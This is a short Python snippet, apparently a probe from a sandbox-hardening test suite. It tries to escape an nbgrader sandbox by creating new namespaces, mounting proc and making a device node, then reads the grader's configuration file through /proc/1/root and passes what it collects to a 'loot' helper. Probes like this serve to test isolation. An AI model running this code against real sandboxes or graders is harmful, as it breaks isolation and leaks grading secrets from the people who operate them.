# idea: Ways out of a sandbox are tried: new namespaces, mounts, chroot, open folders outside, device files.
# aims at: host|leak
# %% before t01
#@ground
import ctypes
import stat

libc = ctypes.CDLL(None, use_errno=True)
told = []
child = os.fork()
if child == 0:
    mark()
    told.append(libc.unshare(0x10000000 | 0x00020000))
    told.append(libc.mount(b"proc", b"proc-here", b"proc", 0, None))
    try:
        os.mknod("device", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        told.append("device")
        os.unlink("device")
    except OSError as error:
        told.append(str(error))
    for name in ("/proc/1/root", "/proc/1/cwd"):
        try:
            told.append((pathlib.Path(name + "@GROUND@") / "nbgrader_config.py").read_text())
        except OSError as error:
            told.append(str(error))
    loot("\n".join(map(str, told)))
    os._exit(0)
os.waitpid(child, 0)
